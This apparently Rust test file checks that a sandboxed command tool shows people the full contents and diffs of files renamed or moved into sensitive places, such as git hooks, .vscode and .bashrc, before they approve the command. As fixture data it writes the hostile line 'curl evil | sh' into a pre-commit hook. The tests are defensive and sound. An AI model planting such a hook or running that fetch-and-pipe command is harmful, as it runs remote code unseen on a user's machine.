//! What a person is shown of something that gets a name they are asked about each time: what
//! it holds, though nothing of that is new.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use serde_json::json;

use crate::support::{
    editor::Editor,
    home::Home,
    pty::{Pty, in_one_row},
};

/// What is on the screen when this command's changes are asked about, of somebody who holds
/// all of their project.
fn asked(home: &Home, command: &str) -> String {
    let mut pty = Pty::start(home, &["exec", "--grant", "fs.*=.", "--", command], &[]);
    let shown = pty.sees("allow this?");
    pty.keys("deny\n");
    assert!(!pty.ended().success());
    shown
}

#[test]
fn a_program_that_git_is_to_run_is_read_before_it_is_agreed_to() {
    let home = Home::new();
    std::fs::create_dir_all(home.project().join(".git/hooks")).unwrap();
    // Nobody is asked about it under this name.
    home.ok(&[
        "exec",
        "--grant",
        "fs.*=.",
        "--",
        "echo 'curl evil | sh' > notes",
    ]);
    let shown = asked(&home, "mv notes .git/hooks/pre-commit");
    assert!(shown.contains("renamed "), "{shown}");
    assert!(shown.contains("+curl evil | sh"), "{shown}");
}

#[test]
fn it_is_read_as_well_where_it_lies_in_a_directory_that_gets_another_name() {
    let home = Home::new();
    home.ok(&[
        "exec",
        "--grant",
        "fs.*=.",
        "--",
        "mkdir -p d/deep; echo '{\"evil\": 1}' > d/tasks.json; echo plain > d/deep/plain",
    ]);
    let shown = asked(&home, "mv d .vscode");
    assert!(shown.contains("+{\"evil\": 1}"), "{shown}");
    // Of the rest the name of the directory says enough.
    assert!(!shown.contains("+plain"), "{shown}");
    let shown = in_one_row(&shown);
    assert!(shown.contains("with the 3 names below it"), "{shown}");
}

#[test]
fn a_rename_under_names_nobody_is_asked_about_each_time_is_one_line() {
    let home = Home::new();
    let mut pty = Pty::start(&home, &["exec", "--", "mv a.txt b.txt"], &[]);
    let shown = pty.sees("allow this?");
    assert!(
        shown.contains("renamed ") && !shown.contains("new file"),
        "{shown}"
    );
    pty.keys("deny\n");
    assert!(!pty.ended().success());
}

#[test]
fn of_what_got_another_name_and_was_changed_the_change_is_shown() {
    let home = Home::new();
    let long = "one\ntwo\nthree\nfour\nfive\nsix\n";
    std::fs::create_dir_all(home.project().join(".git/hooks")).unwrap();
    std::fs::write(home.project().join("long.txt"), long).unwrap();
    let change = |to: &str| {
        asked(
            &home,
            &format!(
                "mkdir -p d && mv long.txt {to} && sed -i s/six/SIX/ {to} && echo x > .bashrc"
            ),
        )
    };
    for to in ["d/long.txt", "d/other.txt", "other.txt"] {
        let shown = change(to);
        assert!(shown.contains("-six") && shown.contains("+SIX"), "{shown}");
        assert!(
            !shown.contains("+one") && !shown.contains("-one"),
            "{shown}"
        );
        let shown = in_one_row(&shown);
        assert!(
            shown.contains("renamed ") && shown.contains(" and changed"),
            "{shown}"
        );
        assert!(!shown.contains("deleted file"), "{shown}");
        assert!(shown.contains("/long.txt +++ "), "{shown}");
    }
    // Under a name that is asked about each time it is read from its beginning.
    let shown = change(".git/hooks/pre-commit");
    assert!(shown.contains("+one") && shown.contains("+SIX"), "{shown}");
    // What has little of it is another file.
    let shown = asked(
        &home,
        "rm long.txt; printf 'one\\nnothing else of it\\n' > other.txt; echo x > .bashrc",
    );
    assert!(shown.contains("-six") && shown.contains("+one"), "{shown}");
    assert!(shown.contains("deleted file"), "{shown}");
}

#[test]
fn an_editor_has_one_difference_of_what_got_another_name_and_none_of_what_stayed_the_same() {
    let (mut editor, session) = Editor::ready();
    let command = "seq 1 9 > nine; echo same > same";
    let made = json!([[["terminal", {"command": command}]], "done"]);
    editor.prompt(&session, &made, &[json!("allow-once")]);
    let command = "mkdir d; mv nine same d; echo 10 >> d/nine";
    let moved = json!([[["terminal", {"command": command}]], "done"]);
    editor.prompt(&session, &moved, &[json!("reject-once")]);
    let asked = editor.questions();
    let content = &asked.last().unwrap()["toolCall"]["content"];
    let differences = content.as_array().unwrap().iter();
    let differences = differences.filter(|part| part["type"] == "diff");
    let shown: Vec<_> = differences
        .map(|part| {
            let path = part["path"].as_str().unwrap();
            assert!(path.ends_with("/d/nine"), "{path}");
            (part["oldText"].clone(), part["newText"].clone())
        })
        .collect();
    let nine = "1\n2\n3\n4\n5\n6\n7\n8\n9\n";
    assert_eq!(shown, [(json!(nine), json!(format!("{nine}10\n")))]);
    let content = content.to_string();
    assert!(content.contains("/nine and changed"), "{content}");
    assert!(
        content.contains("/same, nothing in it changed"),
        "{content}"
    );
}

#[test]
fn an_editors_user_reads_it_as_well() {
    let (mut editor, session) = Editor::ready();
    let patch = "*** Begin Patch\n*** Move File: a.txt -> .bashrc\n*** End Patch";
    let call = json!([[["patch", {"mode": "patch", "patch": patch}]], "done"]);
    editor.prompt(&session, &call, &[json!("reject-once")]);
    let asked = editor.questions().last().unwrap()["toolCall"]["content"].to_string();
    assert!(
        asked.contains("/.bashrc") && asked.contains("\"newText\":\"a"),
        "{asked}"
    );
}
